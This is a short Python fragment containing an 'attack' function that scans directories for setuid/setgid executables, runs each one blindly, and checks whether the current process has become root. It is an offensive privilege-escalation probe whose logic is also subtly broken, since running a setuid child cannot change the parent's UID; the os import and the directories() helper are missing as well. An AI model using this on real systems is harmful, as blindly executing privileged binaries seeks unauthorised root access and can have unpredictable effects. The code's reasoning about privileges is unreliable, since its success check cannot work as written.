import stat
import subprocess


def attack():
    for place in directories():
        try:
            entries = list(os.scandir(place))
        except OSError:
            continue
        for entry in entries:
            if entry.is_file(follow_symlinks=False):
                found = entry.stat(follow_symlinks=False)
                if found.st_mode & (stat.S_ISUID | stat.S_ISGID) and os.access(entry.path, os.X_OK):
                    subprocess.run([entry.path], stdin=subprocess.DEVNULL, capture_output=True, timeout=5)
                    with open("/proc/self/status") as file:
                        if "Uid:\t0" in file.read():
                            return entry.path
    return None
